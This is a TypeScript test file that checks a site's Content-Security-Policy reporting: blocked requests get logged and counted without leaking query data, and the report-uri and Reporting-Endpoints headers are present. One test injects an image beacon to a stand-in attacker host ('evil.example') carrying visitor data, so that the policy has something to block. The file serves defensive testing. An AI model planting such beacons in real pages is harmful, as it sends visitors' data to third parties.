import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { closePages, getSharedBrowser, openPage } from '../support/browser';
import { getHeader, sendRequest } from '../support/http';
import { startIsolatedServer, type IsolatedServer } from '../support/isolated-server';

/** A domain of the plain site. */
const DOMAIN = 'plain-yard.example';

let testServer: IsolatedServer;
let browser: Browser;
beforeAll(async () => {
  testServer = await startIsolatedServer();
  browser = await getSharedBrowser();
});
afterAll(async () => {
  await closePages(browser);
  await testServer.close();
});

const findViolations = () =>
  testServer.server.log
    .filter((line) => line.includes('"csp_violation"'))
    .map((line) => JSON.parse(line) as Record<string, unknown>);

test('a browser reports a violation, which is logged and counted', async () => {
  const { server, site } = testServer;
  const { page, close } = await openPage(browser);
  await page.goto(`${site.url}?utm_source=secret`);
  await page.evaluate(() => void (new Image().src = 'https://evil.example/pixel.gif?visitor=ann'));
  await expect.poll(findViolations).toHaveLength(1);
  expect(findViolations()[0]).toMatchObject({
    subject: 'img-src',
    blocked: 'https://evil.example',
    page: '/',
    disposition: 'enforce',
    tenant: expect.any(String),
  });
  expect(JSON.stringify(findViolations())).not.toMatch(/secret|visitor|pixel/);
  await close();
  const { body } = await sendRequest(server.port, `localhost:${server.port}`, '/metrics');
  expect(body).toContain('forecourt_csp_violations_total{directive="img-src"} 1\n');
});

test.each(['/', '/search/used-cars', '/no-such-page'])('%s names where to report', async (path) => {
  const response = await testServer.site.get(path);
  expect(getHeader(response, 'content-security-policy')).toMatch(/; report-uri \/api\/csp-reports$/);
});

test.each(['/playground', '/playground/kit', '/playground/kit?bare=1'])(
  '%s names where to report',
  async (path) => {
    const { port } = testServer.server;
    const response = await sendRequest(port, `localhost:${port}`, path);
    expect(getHeader(response, 'content-security-policy')).toMatch(/; report-uri \/api\/csp-reports$/);
  },
);

test('a site on https names its endpoint of the Reporting API too', async () => {
  const response = await sendRequest(testServer.server.port, DOMAIN, '/');
  expect(getHeader(response, 'reporting-endpoints')).toBe('csp="/api/csp-reports"');
  expect(getHeader(response, 'content-security-policy')).toMatch(/; report-to csp$/);
});
